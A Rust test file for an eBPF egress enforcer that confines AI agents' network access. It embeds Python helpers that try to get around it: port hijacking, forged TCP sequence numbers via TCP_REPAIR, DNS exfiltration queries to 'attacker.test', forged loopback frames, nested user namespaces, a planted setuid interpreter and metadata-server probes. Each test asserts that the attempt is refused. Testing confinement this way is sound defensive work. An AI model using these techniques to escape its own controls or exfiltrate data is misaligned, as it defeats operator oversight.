//! Tricks with ports: what one agent leaves at a port of its own is not taken for another's, however late the daemon looks.

use std::path::PathBuf;
use std::time::Duration;

use aya::maps::{HashMap, Map, MapData};
use enforcer::clock::{Clock, SystemClock};
use enforcer::sockopt::own_netns;
use enforcer_ebpf::address::LOOPBACK_V4;
use enforcer_ebpf::record::tied_now;
use enforcer_ebpf::{FlowKey, Origin};
use harness::capture::Capture;
use harness::cgroup;
use harness::stage::{BIGQUERY4, OTHER4, Side};
use harness::world::{AGENT_UID, OTHER_AGENT_UID, Who, World, wait_for};
use rustix::process::Signal;

use super::{EPERM, Helper, Lock, agents, cases, refusal_is_on_record, said};

/// Connects from a port of loopback's that another socket may have too, waits for a word, and asks for a list of tables.
const SHARED_PORT: &str = r#"
import socket, ssl, struct, sys
port, address = int(sys.argv[1]), sys.argv[2]
print("ready", flush=True); sys.stdin.readline()
s = socket.socket(); s.settimeout(10)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"lo\0")
s.setsockopt(socket.IPPROTO_IP, 51, struct.pack("I", (port << 16) | port))
s.setsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE, 1)
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_KEEPIDLE, 1); s.setsockopt(socket.IPPROTO_TCP, socket.TCP_KEEPINTVL, 1)
s.connect((address, 443))
print("connected", flush=True)
sys.stdin.readline()
context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
t = context.wrap_socket(s, server_hostname="bigquery.googleapis.com")
t.sendall(b"GET /bigquery/v2/projects/demo-project/datasets/finance/tables HTTP/1.1\r\nHost: bigquery.googleapis.com\r\nConnection: close\r\n\r\n")
print(t.recv(12).decode(), flush=True)
"#;

/// Connects from that port as well.
const SAME_PORT: &str = r#"
import socket, struct, sys
port, address = int(sys.argv[1]), sys.argv[2]
print("ready", flush=True); sys.stdin.readline()
s = socket.socket(); s.settimeout(0.1)
s.setsockopt(socket.IPPROTO_IP, 51, struct.pack("I", (port << 16) | port))
try:
    s.connect((address, 443))
except OSError:
    pass
print("gone", flush=True)
"#;

/// Asks for names that carry something out, from one port, and leaves it at once.
const ASK_AND_GO: &str = r#"
import socket, struct, sys
how, port = sys.argv[1], int(sys.argv[2])
print("ready", flush=True); sys.stdin.readline()
def question(name):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0\0\1\0\1"
for number in range(8):
    asked = question(f"c2VjcmV0{number}.attacker.test")
    if how == "udp":
        if number == 0:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.bind(("0.0.0.0", port)); s.connect(("10.77.9.9", 53))
        s.send(asked)
    else:
        s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("127.0.0.1", port))
        s.connect(("10.77.9.9", 53))
        s.sendall(struct.pack("!H", len(asked)) + asked)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0)); s.close()
s.close()
print("gone", flush=True)
"#;

/// Asks for a name from that port.
const ASK: &str = r#"
import socket, struct, sys
how, port = sys.argv[1], int(sys.argv[2])
print("ready", flush=True); sys.stdin.readline()
kind = socket.SOCK_DGRAM if how == "udp" else socket.SOCK_STREAM
s = socket.socket(socket.AF_INET, kind); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0" if how == "udp" else "127.0.0.1", port))
try:
    s.connect(("10.77.9.9", 53))
    s.send(struct.pack("!HHHHHH", 9, 0x100, 1, 0, 0, 0) + b"\x08bigquery\x0agoogleapis\x03com\0\0\1\0\1")
    print("sent")
except OSError as error:
    print(error.strerror)
"#;

/// Counts the frames that carry such a name, until its input ends.
const CARRIED: &str = r#"
import select, socket, sys
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
print("listens", flush=True)
seen = 0
while True:
    ready, _, _ = select.select([wire, sys.stdin], [], [])
    if wire in ready:
        seen += b"c2VjcmV0" in wire.recv(65535)
    else:
        break
print(seen, flush=True)
"#;

/// Tries the metadata server, name servers and BigQuery, and prints what each said.
const OUTSIDE: &str = r#"
import socket, sys
def say(what, how):
    try:
        how()
        print(what, "ok")
    except OSError as error:
        print(what, error.strerror or error)
def sent(address, port):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", (address, port))
bigquery, other = sys.argv[1:3]
say("bigquery", lambda: socket.create_connection((bigquery, 443), 1))
say("metadata", lambda: socket.create_connection(("169.254.169.254", 80), 1))
say("names", lambda: sent(other, 53))
say("names by tcp", lambda: socket.create_connection((other, 53), 1))
say("names over tls", lambda: socket.create_connection((other, 853), 1))
"#;

/// Prints the sequence number of the first packet from a port on the loopback.
const FIRST_PACKET: &str = r#"
import socket, struct, sys
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x800))
wire.bind(("lo", 0x800))
print("listens", flush=True)
while True:
    packet = wire.recv(65535)[14:]
    segment = packet[(packet[0] & 15) * 4:]
    if packet[9] == 6 and struct.unpack("!H", segment[:2])[0] == int(sys.argv[1]) and segment[13] & 0x12 == 2:
        print(struct.unpack("!I", segment[4:8])[0], flush=True)
        break
"#;

/// Connects from a port, and says what it was told.
const CONNECT_FROM: &str = r#"
import socket, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("", int(sys.argv[1])))
try:
    s.connect((sys.argv[2], 443))
except OSError as error:
    print(error.strerror)
"#;

/// Connects from that port as another user, with that sequence number, which takes a right to choose: whoever has none comes by it with patience.
/// The first packet leaves only once tens of thousands of other connections have been begun and not made.
const SAME_NUMBERS: &str = concat!(
    python_tls!(),
    r#"
import os, socket, ssl, struct, sys
port, address, number, uid = int(sys.argv[1]), sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
REPAIR, QUEUE, SEQUENCE, DEFERRED, NO_COOKIE = 19, 20, 21, 30, 34
tcp = socket.IPPROTO_TCP
def deferred():
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    return s
s = deferred(); s.bind(("", port))
s.setsockopt(tcp, REPAIR, 1); s.setsockopt(tcp, QUEUE, 2); s.setsockopt(tcp, SEQUENCE, struct.pack("I", number)); s.setsockopt(tcp, REPAIR, 0)
os.setgid(uid); os.setuid(uid)
for one in [s] + [None] * 40000:
    one, keeps = (one, True) if one else (deferred(), False)
    one.setsockopt(tcp, DEFERRED, 1); one.setsockopt(tcp, NO_COOKIE, 1)
    one.connect((address, 443))
    if not keeps:
        one.close()
print("begun", flush=True)
sys.stdin.readline()
s.settimeout(10)
print(listed(s), flush=True)
"#
);

/// Makes a user namespace as a uid, in which it then is somebody else, so many more, each in the one before, and tries the same there.
const SOMEBODY_ELSE: &str = r#"
import ctypes, os, sys
uid, script = int(sys.argv[1]), sys.argv[2]
made, mapped = os.pipe(), os.pipe()
child = os.fork()
if child == 0:
    os.setgid(uid); os.setuid(uid)
    assert ctypes.CDLL(None).unshare(0x10000000) == 0
    # What has changed its user is nobody's to read, until it runs something else.
    ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)
    os.write(made[1], b"x"); os.read(mapped[0], 1)
    os.setgid(0); os.setuid(0)
    for _ in range(int(sys.argv[3])):
        # One more, which the one before has made. Only who is somebody there makes another.
        assert ctypes.CDLL(None).unshare(0x10000000) == 0
        ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)
        for file, text in (("setgroups", "deny"), ("gid_map", "0 0 1"), ("uid_map", "0 0 1")):
            with open(f"/proc/self/{file}", "w") as opened:
                opened.write(text)
    os.execv(sys.executable, [sys.executable, "-c", script] + sys.argv[4:])
os.read(made[0], 1)
for kind in ("gid", "uid"):
    with open(f"/proc/{child}/{kind}_map", "w") as file:
        file.write("0 165536 65536")
os.write(mapped[1], b"x")
os.waitpid(child, 0)
"#;

/// Leaves the interpreter behind, set-user-id, as one of the uids that are subordinate to a uid, from inside a user namespace of that one's.
const LEAVE_BEHIND: &str = r#"
import ctypes, os, shutil, sys
uid, target = int(sys.argv[1]), sys.argv[2]
made, mapped = os.pipe(), os.pipe()
child = os.fork()
if child == 0:
    os.setgroups([]); os.setgid(uid); os.setuid(uid)
    assert ctypes.CDLL(None).unshare(0x10000000) == 0
    ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)
    os.write(made[1], b"x"); os.read(mapped[0], 1)
    os.setuid(1)
    shutil.copyfile(os.path.realpath(sys.executable), target)
    os.chmod(target, 0o4755)
    os._exit(0)
os.read(made[0], 1)
# As newuidmap does it.
with open(f"/proc/{child}/uid_map", "w") as file:
    file.write(f"0 {uid} 1\n1 165536 65535")
os.write(mapped[1], b"x")
assert os.waitpid(child, 0)[1] == 0
print(os.stat(target).st_uid)
"#;

/// Becomes wholly whom a set-user-id file makes it, in the namespace where everybody is, and tries the same.
const WHOLLY: &str = "import os, sys\nuid = os.geteuid()\nos.setresuid(uid, uid, uid)\nassert open('/proc/self/uid_map').read().split()[2] == '4294967295'\n";

/// Sends an echo request to an address by a socket that everybody may have.
const PING: &str = r#"
import socket, struct, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
try:
    s.sendto(struct.pack("!BBHHH", 8, 0, 0, 1, 1) + b"of the agent", (sys.argv[1], 0))
    print("sent")
except OSError as error:
    print(error.strerror)
"#;

/// Lets nothing but first packets out of a cgroup, until its input ends.
pub(super) const HELD_BACK: &str = concat!(
    python_bpf!(),
    r#"
program = b"".join([
    # The byte of flags, behind an IPv4 header without options: bpf_skb_load_bytes(skb, 33, stack - 8, 1).
    step(0xb7, 0x02, 0, 33), step(0xbf, 0xa3, 0, 0), step(0x07, 0x03, 0, -8), step(0xb7, 0x04, 0, 1), step(0x85, 0, 0, 26),
    step(0x55, 0x00, 4, 0),
    step(0x71, 0xa2, -8, 0), step(0x57, 0x02, 0, 2), step(0x55, 0x02, 1, 0),
    step(0x05, 0, 2, 0),
    step(0xb7, 0x00, 0, 1), step(0x95, 0, 0, 0),
    step(0xb7, 0x00, 0, 0), step(0x95, 0, 0, 0),
])
held = loaded(8, program, 1)
link = bpf(28, struct.pack("<IIIIIIQ", held, os.open(sys.argv[1], os.O_RDONLY), 1, 0, 0, 0, 0))
print("held back", flush=True)
sys.stdin.read()
os.close(link)
print("let go", flush=True)
"#
);

/// Connects, waits for a word, and asks for a list of tables.
pub(super) const WAITS: &str = r#"
import socket, ssl, sys
s = socket.socket(); s.settimeout(10)
s.connect((sys.argv[1], 443))
print("connected", flush=True)
sys.stdin.readline()
context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
try:
    t = context.wrap_socket(s, server_hostname="bigquery.googleapis.com")
    t.sendall(b"GET /bigquery/v2/projects/demo-project/datasets/finance/tables HTTP/1.1\r\nHost: bigquery.googleapis.com\r\nConnection: close\r\n\r\n")
    print(t.recv(12).decode(), flush=True)
except OSError:
    print("ended", flush=True)
"#;

/// Connects from a port with a sequence number, which takes a right to choose, as a uid, when told; says how long that took, in seconds.
const WITH_NUMBER: &str = r#"
import os, socket, struct, sys, time
port, address, number, uid = int(sys.argv[1]), sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
tcp = socket.IPPROTO_TCP
s = socket.socket(); s.settimeout(10)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("", port))
s.setsockopt(tcp, 19, 1); s.setsockopt(tcp, 20, 2); s.setsockopt(tcp, 21, struct.pack("I", number)); s.setsockopt(tcp, 19, 0)
os.setgid(uid); os.setuid(uid)
print("ready", flush=True)
sys.stdin.readline()
s.connect((address, 443))
print("connected", flush=True)
"#;

/// A question for a name, put on the loopback as a frame, with each of the marks that a start might begin with.
const FORGED: &str = r#"
import socket, struct
def check_of(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total >> 16) + (total & 0xffff)
    return ~total & 0xffff
def frame(number):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in [f"c2VjcmV0{number}", "attacker", "test"])
    question = struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0\0\1\0\1"
    lo = socket.inet_pton(socket.AF_INET6, "::1")
    length = 8 + len(question)
    head = lambda check: struct.pack("!HHHH", 40000, 842, length, check)
    check = check_of(lo + lo + struct.pack("!II", length, 17) + head(0) + question)
    ip = struct.pack("!IHBB", 0x60000000, length, 17, 64) + lo + lo
    return bytes(12) + b"\x86\xdd" + ip + head(check) + question
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
wire.bind(("lo", 0x86dd))
for mark in range(1, 9):
    wire.setsockopt(socket.SOL_SOCKET, 36, mark)
    wire.send(frame(mark))
print("sent")
"#;

/// A datagram for the port of names behind a header of options, with a mark of its own: `egress` would have to look past that to put its own.
const HIDDEN: &str = r#"
import socket, struct
lo = socket.inet_pton(socket.AF_INET6, "::1")
datagram = struct.pack("!HHHH", 40000, 842, 12, 0) + b"hide"
options = struct.pack("!BBBBI", 17, 0, 1, 4, 0)
ip = struct.pack("!IHBB", 0x60000000, len(options + datagram), 60, 64) + lo + lo
s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
s.setsockopt(socket.SOL_SOCKET, 36, 1)
try:
    s.sendto(ip + options + datagram, ("::1", 0)); print("sent")
except OSError as error:
    print(error.strerror)
"#;

/// Something done while the daemon stands still. Two seconds later nobody is led to it any more, so whoever does it is there before: to start a
/// process takes that long on a slow host.
fn while_stopped(world: &World, work: impl FnOnce()) {
    world.signal_daemon(Signal::STOP);
    work();
    world.signal_daemon(Signal::CONT);
}

/// A script of an agent's that begins when it is told to.
fn ready(lock: &Lock, who: Who, script: &str, args: &[&str]) -> Helper {
    let mut command = lock.world.run_as(who, "/usr/bin/python3");
    let mut helper = Helper::start(command.args(["-c", script]).args(args));
    assert_eq!(helper.line(), "ready");
    helper
}

fn agent(lock: &Lock, script: &str, args: &[&str]) -> String {
    let mut command = lock.world.run_as(Who::Agent, "/usr/bin/python3");
    said(command.args(["-c", script]).args(args))
}

/// What [`OUTSIDE`] prints where everything is refused.
fn refused_everywhere() -> String {
    let ways = [
        "bigquery",
        "metadata",
        "names",
        "names by tcp",
        "names over tls",
    ];
    ways.map(|way| format!("{way} {EPERM}")).join("\n")
}

/// Two agents ask from one port, one after the other, before the daemon looks: the first is told only what it is allowed.
fn asks_from_a_port_that_was_anothers(how: &str) {
    let mut lock = Lock::without_daemon();
    lock.world
        .edit_config("uid = 2001", "uid = 2001\ndns = \"strict\"");
    lock.world.start_daemon();
    let mut wire = lock.world.stage.command(Side::Internet, "/usr/bin/python3");
    let mut wire = Helper::start(wire.args(["-c", CARRIED]));
    assert_eq!(wire.line(), "listens");
    let args = [how, "45454"];
    let mut first = ready(&lock, Who::Agent, ASK_AND_GO, &args);
    let mut second = ready(&lock, Who::OtherAgent, ASK, &args);
    while_stopped(&lock.world, || {
        for (helper, done) in [(&mut first, "gone"), (&mut second, "sent")] {
            helper.tell("go");
            assert_eq!(helper.line(), done);
        }
    });
    refusal_is_on_record(&lock.world, "host.not_allowed", agents);
    std::thread::sleep(Duration::from_secs(1));
    assert_eq!(wire.close_and_line(), "0", "names that carry something out");
    let refused = lock.world.events("connection_refused");
    assert!(refused.iter().all(agents), "{refused:?}");
    lock.nothing_got_out();
}

cases! {
    /// another agent's window, by a connection from the very port that the other connects from while the daemon stands still
    30 Refused fn a_port_that_two_agents_share_leads_neither_into_the_others_window() {
        let lock = Lock::new();
        let _ = lock.world.open_window("demo-project.finance:read", "5m");
        let args = ["45002", &BIGQUERY4.to_string()];
        let mut thief = ready(&lock, Who::OtherAgent, SHARED_PORT, &args);
        let mut agent = ready(&lock, Who::Agent, SAME_PORT, &args);
        while_stopped(&lock.world, || {
            thief.tell("go");
            assert_eq!(thief.line(), "connected");
            // The kernel answers no second first packet for half a second after it has answered one that it takes for a mistake, such as the
            // question after a second whether the other end is there. Its answer would end the first connection.
            std::thread::sleep(Duration::from_millis(1150));
            agent.tell("go");
            assert_eq!(agent.line(), "gone");
        });
        thief.tell("go");
        assert_eq!(thief.line(), "HTTP/1.1 403");
        refusal_is_on_record(&lock.world, "window.none", |event| event["agent"] == "ops-bot");
        assert_eq!(lock.world.events("query_admitted").len(), 0);
        lock.nothing_got_out();
    }

    /// another agent's window, by a connection with the port and the sequence number of one of the other's that came to nothing
    30 Refused fn a_connection_is_its_makers_whatever_numbers_it_begins_with() {
        let mut lock = Lock::new();
        let _ = lock.world.open_window("demo-project.finance:read", "5m");
        let (port, to) = ("45077", BIGQUERY4.to_string());
        let mut looks = lock.world.stage.command(Side::Host, "/usr/bin/python3");
        let mut looks = Helper::start(looks.args(["-c", FIRST_PACKET, port]));
        assert_eq!(looks.line(), "listens");
        lock.world.kill_daemon();
        assert_eq!(agent(&lock, CONNECT_FROM, &[port, &to]), "Connection refused");
        let number = looks.line();
        let theirs = lock.world.cgroup_of(Who::OtherAgent);
        let uid = OTHER_AGENT_UID.to_string();
        lock.world.start_daemon();
        let mut thief = Helper::start(&mut lock.script(&theirs, None, SAME_NUMBERS, &[port, &to, &number, &uid]));
        assert_eq!(thief.line(), "begun");
        thief.tell("go");
        assert_eq!(thief.line(), "HTTP/1.1 403");
        refusal_is_on_record(&lock.world, "window.none", |event| event["agent"] == "ops-bot");
        assert_eq!(lock.world.events("query_admitted").len(), 0);
        lock.nothing_got_out();
    }

    /// a connection that stands only seconds after its first packet: what that left behind may be another's by then
    30 Refused fn a_connection_that_stands_too_late_is_nobodys() {
        let lock = Lock::new();
        let _ = lock.world.open_window("demo-project.finance:read", "5m");
        let told = |pause: Duration| {
            let cgroup = lock.world.cgroup_of(Who::Agent).display().to_string();
            let mut holds = lock.world.stage.command(Side::Host, "/usr/bin/python3");
            let mut holds = Helper::start(holds.args(["-c", HELD_BACK, &cgroup]));
            assert_eq!(holds.line(), "held back");
            let mut client = lock.world.run_as(Who::Agent, "/usr/bin/python3");
            let mut client = Helper::start(client.args(["-c", WAITS, &BIGQUERY4.to_string()]));
            assert_eq!(client.line(), "connected");
            std::thread::sleep(pause);
            assert_eq!(holds.close_and_line(), "let go");
            client.tell("go");
            client.line()
        };
        // The daemon's end stands with the client's first answer. Without a far side there is no token.
        assert_eq!(told(Duration::ZERO), "HTTP/1.1 403");
        refusal_is_on_record(&lock.world, "token.unavailable", agents);
        assert_eq!(told(Duration::from_millis(2500)), "ended");
        refusal_is_on_record(&lock.world, "caller.unknown", |event| event["agent"].is_null());
        lock.nothing_got_out();
    }

    /// a first packet with the very numbers of another agent's that is on its way
    30 Refused fn a_first_packet_that_meets_anothers_is_dropped_and_so_is_what_it_met() {
        let lock = Lock::new();
        let (port, number, to) = (45_088_u16, 7_777_777_u32, BIGQUERY4.to_string());
        let theirs = lock.world.cgroup_of(Who::OtherAgent);
        let args = [port.to_string(), to, number.to_string(), OTHER_AGENT_UID.to_string()];
        let mut client = Helper::start(&mut lock.script(&theirs, None, WITH_NUMBER, &args.each_ref().map(String::as_str)));
        assert_eq!(client.line(), "ready");
        let agent = lock.world.cgroup_of(Who::Agent);
        let (netns, now) = lock.world.stage.on(Side::Host, || (own_netns().expect("a cookie"), SystemClock.now().boot_ns));
        let key = FlowKey {
            netns,
            client: LOOPBACK_V4,
            client_port: u32::from(port),
            server_port: 841,
            first_sequence: number,
            reserved: 0,
        };
        let origin = Origin {
            boot_ns: now,
            agent_cgroup: cgroup::id(&agent),
            netns,
            start_boot_ns: 0,
            grant: 1,
            destination: LOOPBACK_V4,
            port: 443,
            pid: 1,
            uid: AGENT_UID,
            tied: tied_now(now),
            comm: [0; 16],
        };
        let path = lock.world.stage.bpffs().join("enforcer/maps-v1/ORIGINS-4");
        let data = lock.world.stage.on(Side::Host, || MapData::from_pin(path).expect("opens the map"));
        let mut origins: HashMap<_, FlowKey, Origin> = Map::from_map_data(data).expect("a map").try_into().expect("typed");
        origins.insert(key, origin, 0).expect("root can");
        client.tell("go");
        // The one that is sent again meets nothing any more.
        assert_eq!(client.line(), "connected");
        lock.nothing_got_out();
        lock.is_on_record("egress refused: the kernel program could not read or remember it", |event| event["agent"] == "ops-bot");
    }

    /// names that carry data out, asked for in datagrams from a port that another agent then has
    35 Refused fn a_datagram_is_its_senders_after_another_agent_has_its_port() {
        asks_from_a_port_that_was_anothers("udp");
    }

    /// names that carry data out, asked for over connections from a port that another agent then has
    35 Refused fn a_connection_is_its_makers_after_another_agent_has_its_port() {
        asks_from_a_port_that_was_anothers("tcp");
    }

    /// names that carry data out, asked for in an agent's name by frames that are put on the loopback by hand
    35 Refused fn a_question_without_the_mark_of_this_start_is_nobodys() {
        let lock = Lock::new();
        let mut wire = lock.world.stage.command(Side::Internet, "/usr/bin/python3");
        let mut wire = Helper::start(wire.args(["-c", CARRIED]));
        assert_eq!(wire.line(), "listens");
        let elsewhere: PathBuf = lock.world.stage.cgroups.make("system/other.service");
        assert_eq!(said(&mut lock.script(&elsewhere, None, FORGED, &[])), "sent");
        let hidden = said(&mut lock.script(&elsewhere, None, HIDDEN, &[]));
        assert_eq!(hidden, "Operation not permitted");
        refusal_is_on_record(&lock.world, "caller.unknown", |event| event["agent"].is_null());
        std::thread::sleep(Duration::from_secs(1));
        assert_eq!(wire.close_and_line(), "0", "names that carry something out");
        lock.nothing_got_out();
    }

    /// what the agent has started elsewhere, as somebody else: one of the uids that are subordinate to its own
    12 Refused fn an_agents_subordinate_uid_outside_its_workload_gets_to_nothing_that_is_guarded() {
        let lock = Lock::new();
        let elsewhere: PathBuf = lock.world.stage.cgroups.make("system/cron.service");
        for more in ["0", "1"] {
            let (uid, to) = (AGENT_UID.to_string(), [BIGQUERY4.to_string(), OTHER4.to_string()]);
            let args = [&uid, OUTSIDE, more, &to[0], &to[1]];
            let told = said(&mut lock.script(&elsewhere, None, SOMEBODY_ELSE, &args));
            assert_eq!(told, refused_everywhere(), "{more}");
        }
        lock.nothing_got_out();
        lock.is_on_record("connect4 refused: the process runs as an agent's uid", |event| {
            event["process"]["uid"] == 165_536
        });
    }

    /// somebody else yet, in user namespaces of the agent's that nest deeper than is looked for whose they are
    12 Refused fn nobody_is_made_of_an_agent_by_namespaces_that_nest_deep() {
        let mut lock = Lock::without_daemon();
        // Who it becomes there is known as nobody's: what makes an agent's of it is where it is.
        let ranges = lock.world.stage.dir().join("subuid");
        std::fs::write(&ranges, "").expect("writes");
        lock.world.edit_config("[kernel]", &format!("[kernel]\nsubuid_file = \"{}\"", ranges.display()));
        lock.world.start_daemon();
        let elsewhere: PathBuf = lock.world.stage.cgroups.make("system/cron.service");
        for more in ["7", "8", "20"] {
            let (uid, to) = (AGENT_UID.to_string(), [BIGQUERY4.to_string(), OTHER4.to_string()]);
            let args = [&uid, OUTSIDE, more, &to[0], &to[1]];
            let told = said(&mut lock.script(&elsewhere, None, SOMEBODY_ELSE, &args));
            assert_eq!(told, refused_everywhere(), "{more}");
        }
        lock.nothing_got_out();
        lock.is_on_record("connect4 refused: the process runs as an agent's uid", |event| {
            event["process"]["uid"] == 165_536
        });
    }

    /// a set-user-id file of a subordinate uid, left behind by the agent and run elsewhere: then that uid is in nobody's user namespace
    12 Refused fn a_file_that_an_agents_subordinate_uid_has_left_makes_nobody_of_it() {
        let mut lock = Lock::without_daemon();
        let folder = lock.world.stage.dir().join("left");
        std::fs::create_dir(&folder).expect("makes a folder");
        std::os::unix::fs::chown(&folder, Some(165_536), None).expect("gives it away");
        let ranges = folder.with_file_name("subuid");
        std::fs::write(&ranges, "").expect("writes");
        lock.world.edit_config("[kernel]", &format!("[kernel]\nsubuid_file = \"{}\"", ranges.display()));
        lock.world.start_daemon();
        let elsewhere: PathBuf = lock.world.stage.cgroups.make("system/cron.service");
        let left = folder.join("left");
        let (uid, path) = (AGENT_UID.to_string(), left.display().to_string());
        assert_eq!(said(&mut lock.script(&elsewhere, None, LEAVE_BEHIND, &[&uid, &path])), "165536");
        let script = format!("{WHOLLY}{OUTSIDE}");
        let told = || {
            let mut command = lock.world.stage.command_in(Side::Host, Some(&elsewhere), Some(AGENT_UID), &left);
            said(command.env("PYTHONHOME", "/usr").args(["-c", &script, &BIGQUERY4.to_string(), &OTHER4.to_string()]))
        };
        // Whose it is stands in a file, which is read when it is written.
        std::fs::write(&ranges, format!("{AGENT_UID}:165536:65536\n")).expect("writes");
        wait_for("the file", || told() == refused_everywhere());
        let wire = Capture::start(&lock.world.stage, [OTHER4.into(), [169, 254, 169, 254].into()]);
        assert_eq!(told(), refused_everywhere());
        assert_eq!(wire.packets(), 0);
        lock.nothing_got_out();
        lock.is_on_record("connect4 refused: the process runs as an agent's uid", |event| {
            event["process"]["uid"] == 165_536
        });
    }

    /// a ping socket of the agent's uid, outside its workload, to the metadata server
    12 Refused fn a_ping_of_an_agents_uid_outside_its_workload_does_not_leave() {
        let lock = Lock::new();
        let elsewhere: PathBuf = lock.world.stage.cgroups.make("system/cron.service");
        let metadata = [169, 254, 169, 254].into();
        let wire = Capture::start(&lock.world.stage, [metadata, OTHER4.into()]);
        for (to, told) in [("169.254.169.254", EPERM), (&BIGQUERY4.to_string(), EPERM), (&OTHER4.to_string(), "sent")] {
            assert_eq!(said(&mut lock.script(&elsewhere, Some(AGENT_UID), PING, &[to])), told, "{to}");
        }
        assert_eq!(wire.packets(), 1, "the one to another host");
        assert_eq!(said(&mut lock.script(&elsewhere, Some(3001), PING, &["169.254.169.254"])), "sent");
        lock.nothing_got_out();
        lock.is_on_record("egress refused: the metadata server is closed to agents", |_| true);
    }

    /// a ping socket of the agent's uid, outside its workload, where only agents are enforced on
    12 Refused fn where_only_agents_are_enforced_on_a_ping_of_an_agents_uid_does_not_leave_either() {
        let mut lock = Lock::without_daemon();
        lock.world.edit_config("[kernel]", "[kernel]\nenforce = \"agents\"");
        lock.world.start_daemon();
        let elsewhere: PathBuf = lock.world.stage.cgroups.make("system/cron.service");
        let ping = |uid| said(&mut lock.script(&elsewhere, Some(uid), PING, &[&BIGQUERY4.to_string()]));
        assert_eq!(ping(AGENT_UID), EPERM);
        lock.nothing_got_out();
        lock.is_on_record("egress refused", |_| true);
        assert_eq!(ping(3001), "sent", "whoever is no agent is left alone");
    }

    /// what the agent has started elsewhere: by cron, by its user's service manager, at a login
    12 Refused fn an_agents_uid_outside_its_workload_gets_to_nothing_that_is_guarded() {
        let lock = Lock::new();
        let elsewhere: PathBuf = lock.world.stage.cgroups.make("system/cron.service");
        let wire = Capture::start(&lock.world.stage, [OTHER4.into(), [169, 254, 169, 254].into()]);
        let to = [BIGQUERY4.to_string(), OTHER4.to_string()];
        let told = said(&mut lock.script(&elsewhere, Some(AGENT_UID), OUTSIDE, &[&to[0], &to[1]]));
        assert_eq!(told, refused_everywhere());
        assert_eq!(wire.packets(), 0);
        lock.nothing_got_out();
        for hook in ["connect4", "sendmsg4"] {
            lock.is_on_record(&format!("{hook} refused: the process runs as an agent's uid"), |event| {
                event["process"]["uid"] == AGENT_UID
            });
        }
    }
}
